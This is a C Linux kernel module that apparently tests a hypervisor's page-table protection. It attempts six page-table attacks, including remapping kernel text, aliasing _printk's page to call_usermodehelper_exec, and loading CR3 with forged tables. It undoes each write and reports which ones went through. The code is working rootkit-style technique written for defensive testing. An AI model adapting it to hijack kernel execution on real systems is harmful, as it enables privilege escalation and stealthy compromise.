// SPDX-License-Identifier: GPL-2.0
/*
 * Attack: change which physical page a linear address reaches, by editing
 * page tables, or by loading page tables of our own.
 *
 *  1. Re-point the kernel's own mapping of its text (the leaf entry that
 *     maps _printk) at other physical memory.
 *  2. Graft an alias into the current process's top-level table: its
 *     kernel-half slot for the text, pointed at tables of our own that map
 *     the page of a denied API (call_usermodehelper_exec) where _printk's
 *     page should be. A call to _printk would then run the denied API.
 *  3. Re-point a user page of the current process (its user stack) at
 *     other physical memory, as a rootkit maps a credential into user space.
 *  4. Load CR3 with a copy of the current top-level table carrying the
 *     same alias.
 *  5. Map fresh memory far from any other mapping of this process (so the
 *     kernel makes new tables for it, after the module was loaded and the
 *     hypervisor last looked), and re-point its page-table entry, and the
 *     entry of the new PUD above it (a table 6.1 gives no page type).
 *  6. Map 4 MiB of kernel memory (so the kernel makes a new page table of
 *     its own for a 2 MiB run of it, untyped on 6.1 and 6.12) and re-point
 *     an entry there: the table of a kernel stack or a BPF image mapped
 *     later, which the module could re-point too.
 *
 * Every write is undone at once if it went through, and the alias is never
 * called: the report says which step went through. (The pages of the
 * alias tables are left allocated: the module fails its init either way.)
 */
#include <linux/module.h>
#include <linux/mm.h>
#include <linux/gfp.h>
#include <linux/sched/task_stack.h>
#include <linux/ptrace.h>
#include <linux/umh.h>
#include <linux/mman.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>
#include <linux/slab.h>
#include "alias.h"

#define ENTRY_PRESENT 1ULL
#define ENTRY_LARGE (1ULL << 7)
#define ENTRY_ADDRESS 0x000ffffffffff000ULL

static u64 *table_at(u64 entry)
{
	return (u64 *)__va(entry & ENTRY_ADDRESS);
}

/* The entry that maps `addr` in the hierarchy under `top`, and its level
 * (4 = PML4 ... 1 = PT); NULL if nothing maps it. */
static u64 *leaf(u64 *top, unsigned long addr, int *level)
{
	u64 *table = top;
	int l;

	for (l = 4; l >= 1; l--) {
		u64 *e = &table[(addr >> (12 + 9 * (l - 1))) & 511];

		if (!(*e & ENTRY_PRESENT))
			return NULL;
		if (l == 1 || (l < 4 && (*e & ENTRY_LARGE))) {
			*level = l;
			return e;
		}
		table = table_at(*e);
	}
	return NULL;
}

/* The physical address `addr` reaches under `top`, 0 if none. */
static u64 phys_of(u64 *top, unsigned long addr)
{
	int level;
	u64 *e = leaf(top, addr, &level);
	u64 size = 1ULL << (12 + 9 * (level - 1));

	return e ? (*e & ENTRY_ADDRESS & ~(size - 1)) + (addr & (size - 1)) : 0;
}

/* Writes `value` over the entry at `e`; whether it stuck (then put back).
 * Inlined: each attack writes from an instruction of its own, so each has
 * a console line of its own. */
static __always_inline bool write_entry(u64 *e, u64 value)
{
	volatile u64 *p = e;
	u64 before = *p;
	bool stuck;

	*p = value;
	stuck = *p != before;
	if (stuck)
		*p = before;
	return stuck;
}

static u64 *copy_table(const u64 *from)
{
	u64 *t = (u64 *)get_zeroed_page(GFP_KERNEL);
	int i;

	if (t)
		for (i = 0; i < 512; i++)
			t[i] = from[i];
	return t;
}

/* Tables of our own under a copy of the current top-level table: the path
 * to _printk's page copied down to a page table of ours that maps the page
 * of `denied` in its place. Returns the new PDPT (for the kernel slot) and
 * the new top-level table through the arguments. */
static int build_alias(u64 *top, unsigned long at, unsigned long denied, u64 **pdpt_out, u64 **top_out)
{
	unsigned long i4 = (at >> 39) & 511, i3 = (at >> 30) & 511, i2 = (at >> 21) & 511, i1 = (at >> 12) & 511;
	u64 *pdpt, *pd, *pt, *new_top, e3, e2;
	u64 target = phys_of(top, denied) & ENTRY_ADDRESS;
	int i;

	if (!(top[i4] & ENTRY_PRESENT) || !target)
		return -ENOENT;
	pdpt = copy_table(table_at(top[i4]));
	e3 = pdpt ? pdpt[i3] : 0;
	if (!(e3 & ENTRY_PRESENT) || (e3 & ENTRY_LARGE))
		return -ENOENT;
	pd = copy_table(table_at(e3));
	pt = (u64 *)get_zeroed_page(GFP_KERNEL);
	new_top = copy_table(top);
	if (!pd || !pt || !new_top)
		return -ENOMEM;
	e2 = pd[i2];
	if (e2 & ENTRY_LARGE) {
		/* A 2 MiB page: split into 4 KiB ones (the PAT bit moves). */
		u64 flags = (e2 & ~ENTRY_ADDRESS & ~ENTRY_LARGE) | ((e2 >> 12) & 1 ? 1ULL << 7 : 0);

		for (i = 0; i < 512; i++)
			pt[i] = ((e2 & ENTRY_ADDRESS & ~0x1fffffULL) + i * 0x1000ULL) | (flags & ~(1ULL << 12));
	} else {
		for (i = 0; i < 512; i++)
			pt[i] = table_at(e2)[i];
	}
	pt[i1] = target | (pt[i1] & ~ENTRY_ADDRESS);
	pd[i2] = __pa(pt) | (e2 & 0x63);
	pdpt[i3] = __pa(pd) | (e3 & ~ENTRY_ADDRESS);
	new_top[i4] = __pa(pdpt) | (top[i4] & ~ENTRY_ADDRESS);
	*pdpt_out = pdpt;
	*top_out = new_top;
	return 0;
}

static unsigned long read_cr3(void)
{
	unsigned long cr3;

	asm volatile("mov %%cr3, %0" : "=r"(cr3));
	return cr3;
}

/* The entry at `want` (3 = PDPT ... 1 = PT) on the path to `addr` under
 * `top`; NULL if the path ends above it. */
static u64 *entry_at(u64 *top, unsigned long addr, int want)
{
	u64 *table = top;
	int l;

	for (l = 4; l > want; l--) {
		u64 e = table[(addr >> (12 + 9 * (l - 1))) & 511];

		if (!(e & ENTRY_PRESENT) || (e & ENTRY_LARGE))
			return NULL;
		table = table_at(e);
	}
	return &table[(addr >> (12 + 9 * (want - 1))) & 511];
}

#define KERNEL_RUN 1024

/* 6: a kernel page table younger than the module. Whether it went
 * through; `tried` says whether there was an entry to write. */
static bool new_kernel_table(u64 *top, bool *tried)
{
	struct page **pages = kmalloc_array(KERNEL_RUN, sizeof(*pages), GFP_KERNEL);
	struct page *one = alloc_page(GFP_KERNEL);
	bool went = false;
	void *run = NULL;
	u64 *e;
	int i;

	*tried = false;
	if (pages && one) {
		for (i = 0; i < KERNEL_RUN; i++)
			pages[i] = one;
		run = vmap(pages, KERNEL_RUN, VM_MAP, PAGE_KERNEL);
	}
	if (run) {
		e = entry_at(top, ALIGN((unsigned long)run, PMD_SIZE), 1);
		*tried = e && (*e & ENTRY_PRESENT);
		if (*tried)
			went = write_entry(e, *e ^ (1ULL << 12));
		/* Left mapped: the kernel never frees its own tables, so a run
		 * unmapped here would leave the next load (busybox's insmod
		 * loads a refused module twice) a table the hypervisor has
		 * walked since, and the attack would test nothing new. */
		return went;
	}
	if (one)
		__free_page(one);
	kfree(pages);
	return went;
}

static int __init atk_init(void)
{
	unsigned long cr3 = read_cr3();
	u64 *top = table_at(cr3);
	unsigned long at = (unsigned long)_printk, user = current_user_stack_pointer();
	u64 *pdpt = NULL, *new_top = NULL, *e_text, *e_user;
	bool text = false, pgd = false, user_pte = false, loaded = false, fresh_pte = false, fresh_pud = false;
	bool kernel_tried, kernel_table;
	unsigned long fresh;
	u64 *e_fresh = NULL, *e_pud = NULL;
	int level, err;

	if (pgtable_l5_enabled()) {
		report("5-level paging: not covered");
		return -EACCES;
	}
	/* 1: the kernel's mapping of its own text. */
	e_text = leaf(top, at, &level);
	if (e_text)
		text = write_entry(e_text, *e_text ^ (1ULL << (12 + 9 * (level - 1))));
	/* 2: an alias grafted into the current process's top-level table. */
	err = build_alias(top, at, (unsigned long)call_usermodehelper_exec, &pdpt, &new_top);
	if (!err)
		pgd = write_entry(&top[(at >> 39) & 511], __pa(pdpt) | (top[(at >> 39) & 511] & ~ENTRY_ADDRESS));
	/* 3: a user page of this process. */
	e_user = leaf(top, user, &level);
	if (e_user)
		user_pte = write_entry(e_user, *e_user ^ (1ULL << (12 + 9 * (level - 1))));
	/* 4: page tables of our own, with the alias. */
	if (!err) {
		unsigned long mine = __pa(new_top) | (cr3 & 0xfff);

		asm volatile("mov %0, %%cr3" : : "r"(mine) : "memory");
		loaded = read_cr3() == mine;
		if (loaded)
			asm volatile("mov %0, %%cr3" : : "r"(cr3) : "memory");
	}
	/* 5: a table younger than the module. */
	fresh = vm_mmap(NULL, 0x5a5a00000000UL, PAGE_SIZE, PROT_READ | PROT_WRITE,
			MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, 0);
	if (!IS_ERR_VALUE(fresh) && copy_to_user((void __user *)fresh, &fresh, sizeof(fresh)) == 0) {
		e_fresh = leaf(top, fresh, &level);
		if (e_fresh)
			fresh_pte = write_entry(e_fresh, *e_fresh ^ (1ULL << (12 + 9 * (level - 1))));
		e_pud = entry_at(top, fresh, 3);
		if (e_pud && (*e_pud & ENTRY_PRESENT))
			fresh_pud = write_entry(e_pud, *e_pud ^ (1ULL << 12));
		else
			e_pud = NULL;
		vm_munmap(fresh, PAGE_SIZE);
	}
	/* 6: a kernel table younger than the module. */
	kernel_table = new_kernel_table(top, &kernel_tried);
	report("kernel text mapping write %s; process top-level table write %s; user PTE write %s; CR3 load %s; new PTE write %s; new PUD write %s; new kernel table write %s%s",
	       !e_text ? "not tried" : text ? "WENT THROUGH" : "blocked",
	       err ? "not tried" : pgd ? "WENT THROUGH" : "blocked",
	       !e_user ? "not tried" : user_pte ? "WENT THROUGH" : "blocked",
	       err ? "not tried" : loaded ? "WENT THROUGH" : "blocked",
	       !e_fresh ? "not tried" : fresh_pte ? "WENT THROUGH" : "blocked",
	       !e_pud ? "not tried" : fresh_pud ? "WENT THROUGH" : "blocked",
	       !kernel_tried ? "not tried" : kernel_table ? "WENT THROUGH" : "blocked",
	       err ? " (no alias built)" : "");
	return -EACCES;
}
module_init(atk_init);
MODULE_LICENSE("GPL");
